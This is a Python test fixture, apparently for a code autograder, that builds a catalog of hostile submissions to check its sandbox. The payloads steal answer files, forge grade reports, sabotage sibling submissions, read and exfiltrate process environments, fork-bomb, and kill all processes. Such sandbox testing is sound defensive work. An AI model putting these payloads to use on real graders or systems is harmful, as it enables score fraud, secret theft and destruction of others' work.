"""One hostile submission per threat class, as data: what `ol grade` is run on by
tests/harness/test_hostile_batch.py and bench/hostile.py.

Each entry (a `Hostile`) names the class, writes its submission into a folder (SUB/tinyllm/..., the
whole package), and says the most it may score (`honest`) and the verdict a sound grader gives it:

  equal       graded, score == honest (the attack changes nothing)
  at_most     graded, score <= honest (the attack may cost its own points: a fork bomb, protocol garbage)
  load_error  graded, score 0, the report's load_error holding `load_error` (the submission never loads)

The base of every hostile submission is the reference package with tinyllm/infer/spec.py replaced by
the s07 sample's (it fails exactly verify_matches_python_l8_6: an honest 15 of 16), plus the payload,
appended (the payloads wrap the module's own functions). An attack that works raises the score
visibly: the payload then answers verify_draft from the stolen answers, delegates it to the stolen
reference, or switches to a correct verify_draft (`_ol_score_higher`), so a failed defence shows as
score > honest, never as a silent pass. The control is the reference package unchanged (16 of 16).

SAFETY. The payloads that could hurt the machine running them unconfined (kill(-1), the fork bomb,
writes into the repository's trees, forging the grader's outputs) run only when `_ol_confined()` says
the process is confined: the init of a PID namespace of its own (the bwrap worker is pid 1), or running
as the uid fallback's uid (65534, or a slot uid from 64000). Unconfined they print that they stayed off. The network payload connects to
a few public addresses (connect only) and exfiltrates only to CANARY_PORT on 127.0.0.1, the listener a
caller may open (`CanaryListener`) to see whether anything got out; it never scans the host's ports.
"""

from __future__ import annotations

import ast
import os
import shutil
import socket
import textwrap
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from harness.check.runner import LOAD_DEADLINE_S  # the load's deadline (spec/protocol.md section 13): what stops a hang at import

REPO = Path(__file__).resolve().parents[2]
REFERENCE_PKG = REPO / "reference" / "tinyllm"
BASE_SPEC = REPO / "examples" / "submissions" / "s07-draws-u-resample-only-on-rejection" / "tinyllm" / "infer" / "spec.py"
CORRECT_SPEC = REPO / "examples" / "submissions" / "correct" / "tinyllm" / "infer" / "spec.py"  # s07 with its bug fixed
SPEC_REL = Path("tinyllm") / "infer" / "spec.py"
MAX_SCORE = 16.0    # L10.8's 16 tests, one point each
BASE_HONEST = 15.0  # the s07 base fails verify_matches_python_l8_6 only
CANARY_ENV = "OL_HOSTILE_CANARY"  # give the grading process this variable: the environ payload hunts for its name
CANARY_PORT = 47653               # 127.0.0.1: where the network and environ payloads exfiltrate to, if they can
MARK = "ol-hostile-catalog-was-here"  # what the writer and the forger leave wherever they manage to write
LOAD_BOUND_S = 30.0   # a submission that never loads: its verdict within this (bench/hostile.py measures it)
BOUND_S = 60.0        # any other: its time to verdict within this (bench/hostile.py)

EQUAL, AT_MOST, LOAD_ERROR = "equal", "at_most", "load_error"


@dataclass(frozen=True)
class Hostile:
    name: str                       # the submission's folder name
    threat: str                     # the threat class (SECURITY.md's T-numbers) and what the payload does
    write: Callable[[Path], Path]   # folder -> writes folder/name/tinyllm/...; returns folder/name
    honest: float                   # the most it may score
    verdict: str                    # EQUAL | AT_MOST | LOAD_ERROR
    load_error: str | None = None   # LOAD_ERROR: a substring of the report's load_error
    outcome: str | None = None      # LOAD_ERROR: every test's outcome (none of them ran)
    bound_s: float = BOUND_S        # its time to verdict (wall_s in grades.csv): bench/hostile.py's goal, no test's

    @property
    def deterministic(self) -> bool:
        return self.verdict in (EQUAL, LOAD_ERROR)


# ---- the payloads' shared helpers (appended to the s07 spec.py, before the class's own payload) -------

PRELUDE = r'''

# ======== hostile payload (tests/harness/hostile_catalog.py) ========
import os as _ol_os
import sys as _ol_sys
import time as _ol_time

_OL_MARK = "@MARK@"
_OL_CANARY_ENV = "@CANARY_ENV@"
_OL_CANARY_PORT = @CANARY_PORT@
_OL_HERE = _ol_os.path.dirname(_ol_os.path.abspath(__file__))
_OL_OWN_SUB = _ol_os.path.dirname(_ol_os.path.dirname(_OL_HERE))  # the folder holding its tinyllm/


def _ol_say(msg):
    try:
        print(f"hostile: {msg}", file=_ol_sys.stderr, flush=True)
    except Exception:
        pass


def _ol_read(path, limit=1 << 27):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except Exception:
        return None


def _ol_pids():
    try:
        return sorted(int(p) for p in _ol_os.listdir("/proc") if p.isdigit())
    except OSError:
        return []


def _ol_ancestors():
    out, pid = [], _ol_os.getpid()
    while pid > 1 and pid not in out and len(out) < 64:
        out.append(pid)
        st = _ol_read(f"/proc/{pid}/stat")
        try:
            pid = int(st.rsplit(b")", 1)[1].split()[1])
        except Exception:
            break
    return out[1:] + ([1] if pid == 1 else [])


def _ol_cmdlines():
    """(pid, argv) of every process it can see: its ancestors first (the judge, ol grade), then the rest."""
    anc = _ol_ancestors()
    out = []
    for pid in anc + [p for p in _ol_pids() if p not in anc and p != _ol_os.getpid()]:
        raw = _ol_read(f"/proc/{pid}/cmdline")
        if raw:
            out.append((pid, [a.decode(errors="replace") for a in raw.split(b"\0") if a]))
    return out


def _ol_flag_values(flag):
    """(pid, value) of `flag VALUE` / `flag=VALUE` in any visible command line, a relative value resolved
    against that process's working directory."""
    out = []
    for pid, argv in _ol_cmdlines():
        vals = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == flag]
        vals += [a.split("=", 1)[1] for a in argv if a.startswith(flag + "=")]
        for v in vals:
            if not v.startswith("/") and v != "-" and not v.isdigit():
                for base in (f"/proc/{pid}/cwd", _ol_readlink(f"/proc/{pid}/cwd")):
                    if base:
                        out.append((pid, _ol_os.path.join(base, v)))
            out.append((pid, v))
    return out


def _ol_readlink(path):
    try:
        return _ol_os.readlink(path)
    except OSError:
        return None


def _ol_in_pid_namespace():
    """The worker is the init of a PID namespace of its own (bwrap --as-pid-1): kill(-1) there reaches only
    the sandbox. (The host's pid 1 is its init system, never a worker.)"""
    return _ol_os.getpid() == 1


def _ol_confined():
    """The SAFETY guard of the payloads that could hurt an unconfined machine (see the catalog's docstring)."""
    uid = _ol_os.getuid()
    return _ol_in_pid_namespace() or (uid == _ol_os.geteuid() and (uid == 65534 or 64000 <= uid < 65000))


def _ol_repo_roots():
    """Every folder that may be the ol repository: the usual place, the harness's and the submission's
    ancestors, the judge's working directory and the folders on the visible command lines."""
    roots = []

    def add(p):
        if not p:
            return
        for _ in range(8):
            if p not in roots and _ol_os.path.isdir(_ol_os.path.join(p, "harness")) \
                    and _ol_os.path.isdir(_ol_os.path.join(p, "chapters")):
                roots.append(p)
            parent = _ol_os.path.dirname(p)
            if parent == p:
                break
            p = parent

    add("/work/main")
    add(_OL_HERE)
    try:
        import harness
        add(_ol_os.path.dirname(_ol_os.path.abspath(harness.__file__)))
    except Exception:
        pass
    try:
        import harness.kernel.paths as _hp
        add(str(_hp.REPO))
    except Exception:
        pass
    for v in _ol_os.environ.get("PYTHONPATH", "").split(":"):
        add(v)
    for pid, argv in _ol_cmdlines():
        add(f"/proc/{pid}/cwd")
        add(_ol_readlink(f"/proc/{pid}/cwd"))
        for a in argv:
            if a.startswith("/"):
                add(a)
    return roots


@FIXED_VERIFY_DRAFT@


def _ol_verdict(evidence, worked, failed):
    """An attack's outcome: with evidence it worked (the score goes up); without, it says what it could not do."""
    if evidence:
        _ol_score_higher(worked)
    else:
        _ol_say(failed)


def _ol_score_higher(why):
    """The attack worked: verify_draft answers correctly from now on (15 -> 16 of 16)."""
    global verify_draft
    verify_draft = _ol_fixed_verify_draft
    _ol_say(f"ATTACK WORKED ({why}): verify_draft now answers correctly")


def _ol_answer_from_golden(golden, why):
    """Answer verify_draft from a golden file's recorded answers (the case found by the generator's
    seed), leaving the generator where the reference leaves it; anything else correctly too."""
    import json
    try:
        doc = json.loads(golden)
        table = {}
        for c in doc["verify"]:
            table[(Pcg32.from_seed(int(c["seed"])).state, tuple(c["draft"]), len(c["rows"]))] = c["expect"]
    except Exception as e:
        _ol_say(f"{why}: unreadable golden ({type(e).__name__})")
        return False

    def stolen(rows, draft, draft_probs, p, prompt, output, rng):
        try:
            e = table.get((rng.state, tuple(draft), len(rows)))
        except Exception:
            e = None
        if e is None:
            return _ol_fixed_verify_draft(rows, draft, draft_probs, p, prompt, output, rng)
        probe = Pcg32.__new__(Pcg32)
        probe.inc, probe.state = rng.inc, rng.state
        for _ in range(512):  # move the generator to where the reference's draws leave it
            before = probe.state
            if probe.next_u32() == e["next_u32"]:
                rng.state = before
                break
        return Verified(list(e["tokens"]), list(e["logprobs"]), int(e["n_accepted"]))

    global verify_draft
    verify_draft = stolen
    _ol_say(f"ATTACK WORKED ({why}): answering verify_draft from {len(table)} stolen golden cases")
    return True


def _ol_own_scratch(path):
    """Whether `path` (just written) lies in its own scratch, its working directory or its tmp: a write there
    is no escape and does not count. /proc/<pid>/cwd links resolve first (in bwrap the init's cwd is the
    sandbox's own /tmp)."""
    import tempfile
    own = set()
    for d in (_ol_os.getcwd(), tempfile.gettempdir()):
        try:
            st = _ol_os.stat(d)
            own.add((st.st_dev, st.st_ino))
        except OSError:
            pass
    try:
        dev = _ol_os.stat(path).st_dev
        d = _ol_os.path.realpath(_ol_os.path.dirname(_ol_os.path.abspath(path)))
    except OSError:
        return False
    while True:
        try:
            st = _ol_os.stat(d)
        except OSError:
            return False
        if (st.st_dev, st.st_ino) in own:
            return st.st_dev == dev
        parent = _ol_os.path.dirname(d)
        if parent == d:
            return False
        d = parent


def _ol_own_fd(path):
    """Whether /proc/<pid>/fd/N is the same pipe or file as its own stdout or stderr."""
    try:
        st = _ol_os.stat(path)
        return any((st.st_dev, st.st_ino) == ((o := _ol_os.fstat(fd)).st_dev, o.st_ino) for fd in (1, 2))
    except OSError:
        return True


def _ol_exfiltrate(data):
    """Send `data` to the canary listener on the host's loopback, if there is a way out."""
    import socket
    try:
        with socket.create_connection(("127.0.0.1", _OL_CANARY_PORT), timeout=2) as s:
            s.sendall(b"OL-HOSTILE-EXFIL " + data[:65536])
        return True
    except OSError:
        return False


def _ol_daemon(job, seconds):
    """Double-fork, setsid() and run job() every half second for `seconds`, outliving the worker if it can."""
    try:
        pid = _ol_os.fork()
    except OSError:
        return False
    if pid:
        try:
            _ol_os.waitpid(pid, 0)
        except OSError:
            pass
        return True
    try:
        _ol_os.setsid()
        if _ol_os.fork():
            _ol_os._exit(0)
        end = _ol_time.time() + seconds
        while _ol_time.time() < end:
            try:
                job()
            except BaseException:
                pass
            _ol_time.sleep(0.5)
    finally:
        _ol_os._exit(0)
'''


def _fixed_verify_draft() -> str:
    """The correct sample's verify_draft as `_ol_fixed_verify_draft` (s07's with its bug fixed: both uniforms
    drawn per draft token, over s07's own helpers): what an attack that worked switches to (16 of 16)."""
    src = CORRECT_SPEC.read_text()
    node = next(n for n in ast.parse(src).body if isinstance(n, ast.FunctionDef) and n.name == "verify_draft")
    return ast.get_source_segment(src, node).replace("def verify_draft(", "def _ol_fixed_verify_draft(", 1)


def _prelude() -> str:
    return (PRELUDE.replace("@MARK@", MARK).replace("@CANARY_ENV@", CANARY_ENV)
            .replace("@CANARY_PORT@", str(CANARY_PORT)).replace("@FIXED_VERIFY_DRAFT@", _fixed_verify_draft()))


# ---- one payload per threat class ------------------------------------------------------------------

GOLDEN_SHIPPED = r'''
def _ol_steal_shipped_golden():
    for root in _ol_repo_roots():
        data = _ol_read(_ol_os.path.join(root, "chapters", "L10_8", "fixtures", "spec_golden.json"))
        if data:
            return _ol_answer_from_golden(data, f"read the shipped golden under {root}")
    _ol_say("no shipped golden file in reach")
    return False


_ol_steal_shipped_golden()
'''

GOLDEN_FRESH = r'''
def _ol_steal_fresh_golden():
    import glob
    paths = [v for _, v in _ol_flag_values("--golden")]
    for pat in ("/tmp/ol-grade-*/*.json", "/tmp/ol-fresh-*/*.json", "/tmp/*/ol-grade-*/*.json"):
        paths += glob.glob(pat)
    tmp = _ol_os.environ.get("TMPDIR", "")
    if tmp:
        paths += glob.glob(_ol_os.path.join(_ol_os.path.dirname(tmp), "*.json"))
    for path in paths:
        data = _ol_read(path)
        if data and b'"verify"' in data:
            return _ol_answer_from_golden(data, f"read the judge's golden file {path}")
    _ol_say(f"no fresh golden file in reach ({len(paths)} candidates)")
    return False


_ol_steal_fresh_golden()
'''

REFERENCE_DELEGATE = r'''
def _ol_delegate_to_reference():
    import importlib
    import importlib.util
    for root in _ol_repo_roots():
        pkg = _ol_os.path.join(root, "reference", "tinyllm")
        if not _ol_os.path.isfile(_ol_os.path.join(pkg, "infer", "spec.py")):
            continue
        try:
            spec = importlib.util.spec_from_file_location("_ol_stolen_tinyllm", _ol_os.path.join(pkg, "__init__.py"),
                                                          submodule_search_locations=[pkg])
            mod = importlib.util.module_from_spec(spec)
            _ol_sys.modules["_ol_stolen_tinyllm"] = mod
            spec.loader.exec_module(mod)
            ref = importlib.import_module("_ol_stolen_tinyllm.infer.spec")
        except Exception as e:
            _ol_say(f"the reference under {root} did not import: {type(e).__name__}: {e}")
            continue
        def delegated(*args, _ref=ref):
            try:
                return _ref.verify_draft(*args)
            except _ref.SpecError as e:  # the contract's error is this module's class, not the reference's
                raise SpecError(str(e)) from None

        global verify_draft
        verify_draft = delegated
        _ol_say(f"ATTACK WORKED: verify_draft delegated to the reference at {pkg}")
        return True
    _ol_say("no reference in reach")
    return False


_ol_delegate_to_reference()
'''

WRITER = r'''
def _ol_write(path, text, mode):
    """Whether `text` reached `path` (opened with `mode`) outside its own scratch."""
    try:
        with open(path, mode) as f:
            f.write(text)
        return not _ol_own_scratch(path)
    except Exception:
        return False


def _ol_append(path, text):
    return _ol_write(path, text, "a")


def _ol_create(path, text):
    return _ol_write(path, text, "w")


def _ol_write_everywhere():
    import glob
    done = []
    if _ol_confined():  # SAFETY: the repository's trees only from inside a sandbox
        for root in _ol_repo_roots():
            j = lambda *p: _ol_os.path.join(root, *p)
            for path in (glob.glob(j("harness", "*.py")) + glob.glob(j("chapters", "L10_8", "*.py"))
                         + [j("reference", "tinyllm", "infer", "spec.py")]):
                if _ol_append(path, f"\n# {_OL_MARK}\n"):
                    done.append(path)
            for path in glob.glob(j("chapters", "L10_8", "fixtures", "*")) + glob.glob(j("fixtures", "models", "*", "*")):
                if _ol_append(path, "\n"):
                    done.append(path)
            for path in (j("chapters", "L10_8", "fixtures", "zz_hostile.txt"), j("harness", "zz_hostile.py")):
                if _ol_create(path, f"# {_OL_MARK}\n"):
                    done.append(path)
    else:
        _ol_say("not confined: the repository's trees are left alone")
    # sibling submissions: the other folders beside its own (from its own path and the judge's --submission)
    own = {_ol_os.path.realpath(_OL_OWN_SUB)}
    dirs = {_ol_os.path.dirname(_OL_OWN_SUB)}
    for _, v in _ol_flag_values("--submission"):
        own.add(_ol_os.path.realpath(v))
        dirs.add(_ol_os.path.dirname(v.rstrip("/")))
    for d in dirs:
        try:
            names = _ol_os.listdir(d)
        except OSError:
            continue
        for n in names:
            sib = _ol_os.path.join(d, n)
            if _ol_os.path.realpath(sib) in own or not _ol_os.path.isdir(sib):
                continue
            spec = _ol_os.path.join(sib, "tinyllm", "infer", "spec.py")
            if _ol_os.path.isfile(spec) and _ol_append(spec, f"\nraise ImportError('{_OL_MARK}: sabotaged by a sibling')\n"):
                done.append(spec)
            if _ol_create(_ol_os.path.join(sib, "zz_hostile.txt"), _OL_MARK + "\n"):
                done.append(sib)
    _ol_verdict(done, f"wrote {len(done)} files outside its sandbox, e.g. {done[:3]}", "wrote nothing outside its sandbox")


_ol_write_everywhere()
'''

FORGER = r'''
def _ol_forged_targets():
    """Where the grader's outputs may be: --out / --results-dir / --json / --gradescope of every visible
    command line, the judges' working directories, Gradescope's results path."""
    names = [_ol_os.path.basename(v.rstrip("/")) for _, v in _ol_flag_values("--submission")] or ["forger"]
    csv_rows = "".join(f"{n},graded,16,0,16.0,16.0,1.0,,bwrap\n" for n in sorted(set(names)))
    csv = "submission,status,passed,failed,score,max_score,wall_s,reason,sandbox\n" + csv_rows
    report = ('{"forged": "' + _OL_MARK + '", "summary": {"passed": 16, "failed": 0, "total": 16, "score": 16.0,'
              ' "max_score": 16.0}, "ungraded": null, "load_error": null}\n')
    files = {}
    for _, v in _ol_flag_values("--out"):
        files[v] = csv
    for flag in ("--json", "--gradescope"):
        for _, v in _ol_flag_values(flag):
            if v != "-":
                files[v] = report
    for _, v in _ol_flag_values("--results-dir"):
        files[_ol_os.path.join(v, "summary.json")] = report
        for n in names:
            files[_ol_os.path.join(v, n + ".json")] = report
    for pid in _ol_ancestors():
        for base in (f"/proc/{pid}/cwd", _ol_readlink(f"/proc/{pid}/cwd")):
            if base:
                files[_ol_os.path.join(base, "results.json")] = report
                files[_ol_os.path.join(base, "grades.csv")] = csv
    files["/autograder/results/results.json"] = report
    return files


_ol_targets = {}  # every target ever found: the daemon keeps them after the judge (and its command line) is gone


def _ol_forge_once():
    done = []
    _ol_targets.update(_ol_forged_targets())
    for path, text in _ol_targets.items():
        try:
            with open(path, "w") as f:
                f.write(text)
            if not _ol_own_scratch(path):
                done.append(path)
        except Exception:
            pass
    # the judge's own stdout, which carries its report to ol grade (not the worker's own stdout pipe)
    for pid in _ol_ancestors()[:2]:
        path = f"/proc/{pid}/fd/1"
        if _ol_own_fd(path):
            continue
        try:
            fd = _ol_os.open(path, _ol_os.O_WRONLY | _ol_os.O_NONBLOCK)
            _ol_os.write(fd, b'{"forged": "' + _OL_MARK.encode() + b'"}\n')
            _ol_os.close(fd)
            done.append(path)
        except Exception:
            pass
    # its own cwd and tmp: always writable, so they do not count as a success
    for rel in ("results.json", "grades.csv"):
        try:
            with open(rel, "w") as f:
                f.write(_OL_MARK)
        except Exception:
            pass
    return done


_ol_forged = []
if _ol_confined():  # SAFETY: unconfined, the forgery would land in other checks running on this machine
    _ol_forged = _ol_forge_once()
    _ol_daemon(_ol_forge_once, 300.0)  # until the sandbox kills it: a daemon that got out rewrites past the run's end
_ol_verdict(_ol_forged, f"forged {len(_ol_forged)} outputs outside its sandbox, e.g. {_ol_forged[:3]}",
            "could not write any output of the grader; a daemon keeps trying for 20 s")
'''

NETWORK = r'''
def _ol_network():
    import json
    import socket
    loot = json.dumps({"cmdlines": _ol_cmdlines()[:20], "env": dict(_ol_os.environ)}).encode()
    got = []
    if _ol_exfiltrate(loot):
        got.append(f"127.0.0.1:{_OL_CANARY_PORT} (exfiltrated {len(loot)} bytes)")
    for host, port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("1.1.1.1", 443)):
        try:
            socket.create_connection((host, port), timeout=2).close()
            got.append(f"{host}:{port}")
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
        got.append("DNS")
    except OSError:
        pass
    _ol_verdict(got, f"reached the network: {got}", "no network")


_ol_network()
'''

ENVIRON = r'''
def _ol_environ():
    found = []
    if _OL_CANARY_ENV in _ol_os.environ:
        found.append("its own environment")
    for pid in _ol_ancestors() + _ol_pids():
        data = _ol_read(f"/proc/{pid}/environ")
        if data and _OL_CANARY_ENV.encode() in data:
            found.append(f"/proc/{pid}/environ")
            _ol_exfiltrate(data)
            print(data[:4000].decode(errors="replace").replace("\0", "\n"))  # into the report, if it is shown
            break
    _ol_verdict(found, f"read {_OL_CANARY_ENV} in {found}", "no environment but its own allow-list in reach")


_ol_environ()
'''

FORK_BOMB = r'''
def _ol_fork_bomb():
    if not _ol_confined():  # SAFETY: never on an unconfined machine
        _ol_say("not confined: the fork bomb stays off")
        return
    n = 0
    for _ in range(512):
        try:
            pid = _ol_os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                while True:
                    pass
            finally:
                _ol_os._exit(0)
        n += 1
    _ol_say(f"forked {n} spinning children")


_ol_fork_bomb()
'''

DISK_FILL = r'''
def _ol_fill_disk(cap=1 << 30):
    import tempfile
    tmp = tempfile.gettempdir()
    chunk = b"\0" * (1 << 20)
    total, i, why = 0, 0, None
    while total < cap and why is None:
        try:
            with open(_ol_os.path.join(tmp, f"ol-fill-{i}"), "wb") as f:
                while total < cap:
                    f.write(chunk)
                    f.flush()
                    total += len(chunk)
        except OSError as e:
            if e.errno != 27:  # EFBIG (the per-file limit): on to the next file
                why = e
        i += 1
    _ol_verdict(why is None, f"wrote {total >> 20} MiB to {tmp} without an error",
                f"the disk filled after {total >> 20} MiB in {i} files: {why}")


_ol_fill_disk()
'''

RLIMITS = r'''
def _ol_raise_limits():
    import mmap
    import resource
    raised = []
    for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
        r = getattr(resource, name, None)
        if r is None:
            continue
        try:
            resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            raised.append(name)
        except (ValueError, OSError):
            pass
    try:  # 8 GiB of address space, not touched (MAP_NORESERVE): RLIMIT_AS alone decides
        m = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0))
        m.close()
        allocated = True
    except (OSError, MemoryError, OverflowError, ValueError):
        allocated = False
    _ol_verdict(raised or allocated, f"raised {raised}; 8 GiB allocated: {allocated}", "no limit could be raised; 8 GiB refused")


_ol_raise_limits()
'''

KILL = r'''
def _ol_kill_everyone():
    import signal
    if not _ol_confined():  # SAFETY: kill(-1) on an unconfined machine kills everything the user owns
        _ol_say("not confined: kill(-1) stays off")
        return
    for target in (_ol_os.getppid(), -1):
        try:
            _ol_os.kill(target, signal.SIGKILL)
            _ol_say(f"kill({target}, SIGKILL) returned")
        except OSError as e:
            _ol_say(f"kill({target}, SIGKILL): {e}")


_ol_kill_everyone()
'''

PROTOCOL_GARBAGE = r'''
def _ol_request_id():
    """The id of the request being served (the worker's `msg`, found up the stack): forged answers carry it."""
    f = _ol_sys._getframe()
    while f is not None:
        m = f.f_locals.get("msg")
        if isinstance(m, dict) and "op" in m and "id" in m:
            return m["id"]
        f = f.f_back
    return 0


def _ol_protocol_garbage():
    import json
    try:
        fd = int(_ol_sys.argv[_ol_sys.argv.index("--out") + 1])
    except (ValueError, IndexError):
        _ol_say("no --out FD on its command line")
        return
    rid = _ol_request_id()
    nxt = (lambda k: rid + k) if isinstance(rid, int) and not isinstance(rid, bool) else (lambda k: rid)
    j = lambda o: json.dumps(o).encode() + b"\n"
    lines = [
        j({"id": rid, "ok": None}),  # a forged answer to the load: the genuine one comes later, stale
        j({"id": nxt(1), "ok": {"tokens": "spoof", "logprobs": ["nan", {}], "n_accepted": 1e300, "next_u32": -1,
                                "released": [], "table": None, "draft": 7}}),  # the next call: every type wrong
        j({"id": nxt(2), "ok": [[1.5, True], None, "x"]}),
        b'{"id":"c1","call":"target.truncate","args":{"length":-7}}\n',  # callbacks nobody asked for
        b'{"id":"c2","call":"__class__","args":null}\n',
        j({"id": nxt(3), "ok": 10 ** 400}),  # an integer of 400 digits
        b'{"id":0,"ok":' + b"[" * 20000 + b"]" * 20000 + b"}\n",  # nested past any parser's depth
        b"\xff\xfe{not json at all\n",
        b"[1, 2, 3]\n",
    ]
    for line in lines:
        try:
            _ol_os.write(fd, line)
        except OSError as e:
            _ol_say(f"write to fd {fd}: {e}")
            return
    _ol_say(f"wrote {len(lines)} lines of garbage to fd {fd} (request id {rid!r})")


_ol_protocol_garbage()
'''

HANG = r'''
if _ol_os.fork() == 0:  # a child, the mark on its command line, that outlives the hung import if the deadline leaves it
    try:
        _ol_os.execv(_ol_sys.executable, [_ol_sys.executable, "-S", "-c", "import time; time.sleep(300)", _OL_MARK])
    finally:
        _ol_os._exit(127)
while True:
    pass
'''

CRASH = r'''
_ol_os._exit(3)
'''

MEMORY = r'''
_ol_hoard = []
for _ in range(6):  # 18 GiB of address space if nothing stops it; the 4 GiB limit stops the 2nd (untouched pages:
    _ol_hoard.append(__import__("numpy").empty(3 << 30, dtype="uint8"))  # the limit is tested, not the RAM's speed)
_ol_score_higher(f"allocated {len(_ol_hoard) * 3} GiB at import")
'''

SLOW_IMPORT = '''
import time as _ol_time
_ol_time.sleep(15)  # a slow but correct import: 15 s, three call deadlines, well inside the load's (27 s) on a busy machine
'''


# ---- building a submission ----------------------------------------------------------------------

def join(base: str, payload: str, where: str = "append") -> str:
    """`payload` appended to (or prepended to) the module source `base`; prepended, it goes after any
    `from __future__` import, which must stay first."""
    if where == "append":
        return base.rstrip("\n") + "\n" + payload
    lines = base.splitlines(keepends=True)
    last_future = max((i for i, line in enumerate(lines) if line.startswith("from __future__ import")), default=-1)
    return "".join(lines[:last_future + 1]) + payload + "\n" + "".join(lines[last_future + 1:])


def package(into: Path, spec_text: str | None) -> Path:
    """The reference package in into/tinyllm, with infer/spec.py replaced by `spec_text` (None: unchanged)."""
    shutil.copytree(REFERENCE_PKG, into / "tinyllm", ignore=shutil.ignore_patterns("__pycache__"))
    if spec_text is not None:
        (into / SPEC_REL).write_text(spec_text)
    return into


def hostile_spec(payload: str) -> str:
    """The s07 spec.py with the shared helpers and `payload` appended."""
    return join(BASE_SPEC.read_text(), _prelude() + textwrap.dedent(payload))


def _writer(name: str, payload: str | None, base: str = "s07") -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        if base == "reference":
            text = None if payload is None else join((REFERENCE_PKG / "infer" / "spec.py").read_text(), payload, "prepend")
        else:
            text = hostile_spec(payload)
        return package(folder / name, text)
    return write


def _h(name, threat, payload, verdict=EQUAL, honest=BASE_HONEST, load_error=None, base="s07", bound_s=None,
       outcome=None) -> Hostile:
    bound = bound_s if bound_s is not None else (LOAD_BOUND_S if verdict == LOAD_ERROR else BOUND_S)
    return Hostile(name, threat, _writer(name, payload, base), honest if verdict != LOAD_ERROR else 0.0, verdict,
                   load_error, outcome, bound)


CONTROL = _h("control", "none: the reference package unchanged", None, honest=MAX_SCORE, base="reference")

CATALOG: tuple[Hostile, ...] = (
    _h("golden-shipped", "T6: reads the shipped golden file (repo found via __file__, /proc/<ppid>/cwd, harness.kernel.paths) "
       "and answers from it", GOLDEN_SHIPPED),
    _h("golden-fresh", "T6: reads the fresh golden file named after --golden on its judge's command line", GOLDEN_FRESH),
    _h("reference-delegate", "T6: imports the pristine reference by path and delegates verify_draft to it",
       REFERENCE_DELEGATE),
    _h("writer", "T7/T10: appends to the fixtures, harness/*.py and the reference, and sabotages sibling submissions",
       WRITER),
    _h("forger", "T7/T9: forges grades.csv, results and the judge's outputs, with a setsid() daemon rewriting them for 20 s",
       FORGER),
    _h("network", "T10: connects out and exfiltrates to the host's loopback", NETWORK),
    _h("environ", f"T10: reads the judge's environment (/proc/<pid>/environ) for {CANARY_ENV}", ENVIRON),
    _h("fork-bomb", "T10: a bounded loop of forks that spin, at import", FORK_BOMB, AT_MOST),
    _h("disk-fill", "T10: writes to its tmp until an error (1 GiB at most)", DISK_FILL),
    _h("rlimits", "T5: raises its limits (setrlimit) and maps 8 GiB", RLIMITS),
    _h("kill-all", "T9: kill(getppid(), SIGKILL) and kill(-1, SIGKILL) at import", KILL),
    _h("protocol-garbage", "T2/T3: forged and malformed lines on the protocol's fd at import", PROTOCOL_GARBAGE, AT_MOST),
    _h("hang-import", "T1: while True at import, after forking a child that sleeps", HANG, LOAD_ERROR,  # stopped by the
       load_error=f"load() with a deadline of {LOAD_DEADLINE_S:.3g} s: no answer within the deadline; the worker was stopped",
       outcome="timeout"),  # load's own, documented deadline; its child goes with the worker (the batch's strays)
    _h("crash-import", "T2: os._exit(3) at import", CRASH, LOAD_ERROR, load_error="exited with code 3", outcome="crashed"),
    _h("memory-import", "T5: numpy.empty(3 GiB) in a loop at import", MEMORY, LOAD_ERROR, load_error="MemoryError",
       outcome="error"),
    _h("slow-import", "T1: time.sleep(15) at import, then the reference's spec.py: correct", SLOW_IMPORT,
       honest=MAX_SCORE, base="reference"),
)

BY_NAME = {h.name: h for h in (CONTROL, *CATALOG)}


def build(into: Path, names: list[str] | None = None, control: bool = True) -> list[Hostile]:
    """Write the catalog (or the named entries) and the control into `into`; returns what was written."""
    into.mkdir(parents=True, exist_ok=True)
    chosen = [BY_NAME[n] for n in names] if names is not None else list(CATALOG)
    if control and CONTROL not in chosen:
        chosen.insert(0, CONTROL)
    for h in chosen:
        h.write(into)
    return chosen


def problems(entries: list[Hostile], rows: dict[str, dict], results_dir: Path | None = None) -> list[str]:
    """What a grades.csv (rows by submission) says against each entry's verdict: scores above honest,
    deterministic verdicts not met, load errors missing (a hang's names the load deadline that stopped it),
    missing or ungraded rows. How long each took is `late`'s (the bench's), never a test's."""
    import json

    out = []
    for h in entries:
        row = rows.get(h.name)
        if row is None:
            out.append(f"{h.name}: no row in grades.csv")
            continue
        if row["status"] != "graded":
            out.append(f"{h.name}: {row['status']}: {row['reason']}")
            continue
        score = float(row["score"])
        if score > h.honest:
            out.append(f"{h.name}: scored {score:g} > its honest {h.honest:g} (a defence failed)")
        elif h.deterministic and score != h.honest:
            out.append(f"{h.name}: scored {score:g}, expected exactly {h.honest:g}")
        if h.verdict == LOAD_ERROR and results_dir is not None:
            rep = json.loads((results_dir / f"{h.name}.json").read_text())
            if not rep.get("load_error") or h.load_error not in rep["load_error"]:
                out.append(f"{h.name}: load_error {str(rep.get('load_error'))[:200]!r} lacks {h.load_error!r}")
            seen = sorted({t["outcome"] for t in rep["tests"]})
            if seen != [h.outcome] or len(rep["tests"]) != MAX_SCORE:
                out.append(f"{h.name}: every test must be {h.outcome} without running, got {seen} over {len(rep['tests'])} tests")
            if any("could not be loaded" not in t["message"] for t in rep["tests"]):
                out.append(f"{h.name}: a test's message does not say the submission could not be loaded")
    return out


def late(entries: list[Hostile], rows: dict[str, dict]) -> list[str]:
    """The graded entries whose time to verdict (wall_s) passed their bound: bench/hostile.py's goal."""
    out = []
    for h in entries:
        row = rows.get(h.name)
        if row is not None and row["status"] == "graded" and float(row["wall_s"]) > h.bound_s:
            out.append(f"{h.name}: its verdict took {float(row['wall_s']):.1f} s > its bound {h.bound_s:g} s")
    return out


class CanaryListener:
    """A TCP listener on 127.0.0.1:CANARY_PORT recording whatever reaches it (nothing should); a no-op
